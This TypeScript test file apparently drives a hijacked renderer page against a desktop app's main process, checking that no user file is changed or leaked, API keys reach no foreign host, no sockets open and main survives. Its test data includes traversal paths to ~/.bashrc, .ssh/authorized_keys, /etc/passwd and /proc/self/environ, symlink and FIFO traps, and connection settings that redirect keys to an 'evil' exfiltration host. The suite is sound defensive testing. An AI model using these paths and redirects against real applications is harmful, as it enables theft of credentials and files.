// A page that was taken over, over the memory transport and in the real window. A person had connected an account before; now nobody
// agrees to anything. No file of theirs may be changed or told, no key may arrive anywhere but at the connection's own host, the page
// itself reaches no port, main calls no host of the page's choosing, and main lives.
import { execFileSync, fork } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { existsSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { openTestApp } from '../support/app.ts';
import { calling } from '../support/calling.ts';
import type { Attack, Bench, Outcome } from './attack.ts';
import { type Scene, setScene } from './hostile-connection.ts';
import { keysIn } from './key-forms.ts';
import type { PageOrder, PageReport } from './page-process.ts';
import { oversizedTries, type Try, triesFor } from './page-script.ts';
import { plainEnvironment, takenBy } from './terminal-run.ts';

type Where = PageOrder['where'];
const script = fileURLToPath(new URL('./page-process.ts', import.meta.url));
const mostSilentMs = 45_000;
const mostMB = 1024;

/** A person connects an account: that much they agreed to. Keys come from the environment of the attacked run. */
async function connectHonestly({ dataFolder, connection, keys }: Scene): Promise<string> {
  const app = await openTestApp({
    ...{ dataFolder, environmentKeys: keys },
    dialogs: { chooseSave: async () => null, chooseOpen: async () => null, confirm: async () => true },
  });
  const call = calling(() => app);
  try {
    const { id } = await call('connections.save', { connection });
    await call('connections.use', { id });
    await app.bridge.call('account.read', {});
    return id;
  } finally {
    await app.close();
  }
}

interface Wishes {
  readonly tries: readonly Try[];
  readonly answers?: readonly string[];
  readonly atOnce?: number;
  readonly reach?: PageOrder['reach'];
}

async function playIn(bench: Bench, scene: Scene, where: Where, wishes: Wishes) {
  const heardFile = join(bench.folder, 'heard.txt');
  const order: PageOrder = {
    ...{ where, dataFolder: scene.dataFolder, heardFile, reach: wishes.reach ?? null },
    play: {
      tries: JSON.stringify(wishes.tries),
      answers: wishes.answers ?? [],
      atOnce: wishes.atOnce ?? 4,
      waitMs: 15_000,
    },
  };
  const orderFile = join(bench.folder, 'order.json');
  writeFileSync(orderFile, JSON.stringify(order));
  const { home, workplace } = scene.canaries;
  const child = fork(script, [orderFile], {
    execArgv: ['--disable-warning=ExperimentalWarning'],
    cwd: workplace,
    env: { ...plainEnvironment(home), ...scene.environment, CANARY_VARIABLE: 'mark-of-the-environment' },
    stdio: ['ignore', 'ignore', 'pipe', 'ipc'],
  });
  bench.atEnd(() => child.kill('SIGKILL'));
  let [errors, peakMB, beatAt] = ['', 0, performance.now()];
  child.stderr?.setEncoding('utf8').on('data', (text: string) => {
    errors = (errors + text).slice(-1500);
  });
  const watch = setInterval(() => {
    peakMB = Math.max(peakMB, Math.round(takenBy(child.pid ?? 0).megabytes));
    if (performance.now() - beatAt > mostSilentMs) child.kill('SIGKILL');
  }, 200);
  const report = await new Promise<PageReport | string>((resolve) => {
    child.on('message', (message) => {
      beatAt = performance.now();
      if (message !== 'beat') resolve(message as PageReport);
    });
    child.once('exit', (code, signal) =>
      resolve(`main ended or hung (${signal ?? code}): ${errors.trim().slice(-300)}`),
    );
  });
  clearInterval(watch);
  const heard = existsSync(heardFile) ? readFileSync(heardFile, 'utf8') : '';
  return { report, heard, peakMB };
}

/** What a browser itself puts into a home. */
const ofBrowser = /home\/(\.pki|\.cache|\.local|\.config\/(?!autostart)|\.config was|\.dbus|snap)|home was/;

function judge(scene: Scene, { report, heard, peakMB }: Awaited<ReturnType<typeof playIn>>): string[] {
  const { canaries, keys, never } = scene;
  const changed = canaries.changes().filter((line) => !ofBrowser.test(line));
  const told = [
    ...canaries.toldIn(heard),
    ...(heard.includes('root:x:0:0') ? ['/etc/passwd'] : []),
    ...(heard.includes('mark-of-the-environment') ? ['/proc/self/environ'] : []),
  ];
  return [
    ...(typeof report === 'string' ? [report] : report.alive ? [] : ['main does not answer any more']),
    ...(typeof report === 'string' ? [] : [...new Set(report.bugs)].map((name) => `${name} answered with a bug`)),
    ...changed,
    ...told.map((name) => `${name} was told to the page`),
    ...keysIn(heard, keys).map((which) => `${which}, was told to the page`),
    ...keysIn(never.heard.join('\n'), keys).map((which) => `${which}, went to another host`),
    ...(peakMB > mostMB ? [`it took ${peakMB} MB`] : []),
  ];
}

function hostilePaths(bench: Bench, { canaries, dataFolder }: Scene): string[] {
  const { home, elsewhere } = canaries;
  const trap = join(bench.folder, 'traps');
  execFileSync('mkdir', ['-p', trap]);
  symlinkSync(join(home, '.bashrc'), join(trap, 'link.sextant'));
  symlinkSync(home, join(trap, 'folder'));
  execFileSync('mkfifo', [join(trap, 'pipe')]);
  return [
    ...['.bashrc', '.profile', '.ssh/authorized_keys', 'Documents/list.csv', 'Documents/rows.ndjson', '.forward', ''],
  ]
    .map((name) => join(home, name))
    .concat([
      ...['.config/autostart/new.desktop', '.ssh/new'].map((name) => join(home, name)),
      ...[join(elsewhere, 'secret.txt'), join(elsewhere, 'other.sextant'), join(elsewhere, 'new.sextant')],
      ...['/etc/passwd', '/proc/self/environ', '/dev/zero', '/dev/stdin', '../home/.bashrc', 'notes.txt', '~/.bashrc'],
      ...[join(trap, 'link.sextant'), join(trap, 'folder/.profile'), join(trap, 'pipe')],
      ...[`${dataFolder}/../home/.bashrc`, `${dataFolder}/cases/../../home/.profile`, `file://${home}/.bashrc`],
    ]);
}

async function attackFiles(bench: Bench, where: Where): Promise<Outcome> {
  const scene = await setScene(bench);
  await connectHonestly(scene);
  const paths = hostilePaths(bench, scene);
  const chosen = bench.short || where !== 'memory' ? paths.filter((_path, index) => index % 3 === 0) : paths;
  const looks = ['case.graph', 'case.replies', 'case.recent', 'files.list'].map((name) => ({ name, input: {} }));
  // What may hang main comes last, so that all else is tried before.
  const hangs = ({ input }: Try) => /\/pipe"|"\/dev\//.test(JSON.stringify(input));
  const made = triesFor({ paths: chosen, addresses: [] }, bench.seed);
  const tries = [...made.filter((one) => !hangs(one)), ...looks, ...made.filter(hangs)];
  const asking = [
    'files.choose',
    'case.open',
    'case.import',
    'import.add',
    'case.saveCopy',
    'export.write',
    'report.write',
  ];
  const answers = paths.filter((path) => !path.endsWith('/pipe') && !path.startsWith('/dev'));
  const byDialog = asking.flatMap((name) =>
    answers.slice(0, 6).map(() => ({ name, input: name === 'export.write' ? { format: 'list' } : {} })),
  );
  const played = await playIn(bench, scene, where, { tries: [...tries, ...byDialog, ...looks], answers });
  return { broken: judge(scene, played), figures: { tries: tries.length + byDialog.length, MB: played.peakMB } };
}

/** Makes main send the key to a host of the page's choosing. */
function keyTries(scene: Scene, id: string): Try[] {
  const at = scene.never.origin;
  const evil = {
    ...{ ...scene.connection, name: 'Evil', baseUrl: at, pdnsUrl: at, batchUrl: at, batchDownloadUrl: at },
    auth: { platform: 'header', feeds: 'header' },
  };
  const ask = [
    ...[
      { name: 'connections.test', input: { id } },
      { name: 'account.read', input: {} },
      { name: 'pdns.rateLimit', input: {} },
    ],
    ...[
      { name: 'batch.validate', input: {} },
      { name: 'investigate.domains', input: { names: ['a.example'] } },
    ],
  ];
  const byProxy = { ...scene.connection, proxy: at };
  return [
    ...[{ name: 'connections.save', input: { id, connection: { ...evil, name: 'Hostile' } } }, ...ask],
    ...[{ name: 'connections.save', input: { id, connection: byProxy } }, ...ask],
    ...[{ name: 'connections.save', input: { connection: evil } }, ...ask],
    { name: 'connections.import', input: { text: JSON.stringify({ ...evil, name: 'Evil too' }) } },
    ...ask,
  ];
}

async function attackKeys(bench: Bench, where: Where): Promise<Outcome> {
  const scene = await setScene(bench);
  const id = await connectHonestly(scene);
  const looked = await playIn(bench, scene, where, { tries: keyTries(scene, id), atOnce: 1 });
  const made = [...looked.heard.matchAll(/"id":"([0-9a-f-]{36})"/g)].map(([, found]) => found ?? '');
  const others = [...new Set(made)].filter((one) => one !== id);
  const use = others.flatMap((one) => [
    { name: 'connections.use', input: { id: one } },
    ...['account.read', 'pdns.rateLimit', 'batch.validate'].map((name) => ({ name, input: {} })),
    { name: 'connections.test', input: { id: one } },
  ]);
  const broken = judge(scene, looked);
  if (use.length > 0) broken.push(...judge(scene, await playIn(bench, scene, where, { tries: use, atOnce: 1 })));
  return {
    broken: [...new Set(broken)],
    figures: { connections: others.length, 'calls elsewhere': scene.never.heard.length },
  };
}

/** Makes main call a host of the page's choosing, with or without a key: a way out for whatever the case holds. */
async function attackHosts(bench: Bench, where: Where): Promise<Outcome> {
  const scene = await setScene(bench);
  const id = await connectHonestly(scene);
  const { port, origin } = scene.never;
  const addresses = [`${origin}/exfiltrated`, `http://localhost:${port}/x`, `http://user:word@127.0.0.1:${port}/x`];
  const tries = [...triesFor({ paths: [], addresses }, bench.seed), ...keyTries(scene, id)];
  const outside = { name: 'app.openOutside', input: { url: 'https://evil.example/?exfiltrated' } };
  const played = await playIn(bench, scene, where, { tries: [...tries, outside] });
  const opened = typeof played.report === 'string' ? [] : played.report.openedOutside;
  const called = scene.never.heard.map((text) => `a host of the page's choosing was called: ${text.split('\r\n')[0]}`);
  return {
    broken: [
      ...new Set([...judge(scene, played), ...called]),
      ...opened.map((url) => `${url} was opened outside unasked`),
    ],
    figures: { tries: tries.length + 1, 'calls elsewhere': scene.never.heard.length },
  };
}

async function attackWithSizes(bench: Bench, where: Where): Promise<Outcome> {
  const scene = await setScene(bench);
  await connectHonestly(scene);
  const all = oversizedTries(bench.seed);
  const tries = bench.short || where !== 'memory' ? all.filter((_one, index) => index % 9 === 0) : all;
  const flood = Array.from({ length: 3000 }, () => ({ name: 'case.graph', input: {} }));
  const played = await playIn(bench, scene, where, { tries: [...tries, ...flood], atOnce: 400 });
  return { broken: judge(scene, played), figures: { tries: tries.length + flood.length, MB: played.peakMB } };
}

async function attackPorts(bench: Bench, where: Where): Promise<Outcome> {
  const scene = await setScene(bench);
  await connectHonestly(scene);
  const packets: string[] = [];
  const udp = createSocket('udp4', (message) => packets.push(message.toString('latin1')));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  bench.atEnd(() => udp.close());
  const reach = { tcp: scene.never.port, udp: (udp.address() as AddressInfo).port };
  const played = await playIn(bench, scene, where, { tries: [], reach });
  const sockets = scene.never.heard.length + packets.length;
  return {
    broken: [...judge(scene, played), ...(sockets > 0 ? [`the page itself opened ${sockets} sockets`] : [])],
    figures: { sockets },
  };
}

function attacksIn(where: Where): Attack[] {
  const name = where === 'memory' ? 'memory' : 'window';
  return [
    { name: `page/${name}-files`, short: where === 'memory', run: (bench) => attackFiles(bench, where) },
    { name: `page/${name}-keys`, short: true, run: (bench) => attackKeys(bench, where) },
    { name: `page/${name}-hosts`, run: (bench) => attackHosts(bench, where) },
    { name: `page/${name}-sizes`, run: (bench) => attackWithSizes(bench, where) },
  ];
}

export const pageAttacks: readonly Attack[] = [
  ...attacksIn('memory'),
  ...attacksIn('chromium'),
  { name: 'page/window-sockets', run: (bench) => attackPorts(bench, 'chromium') },
];
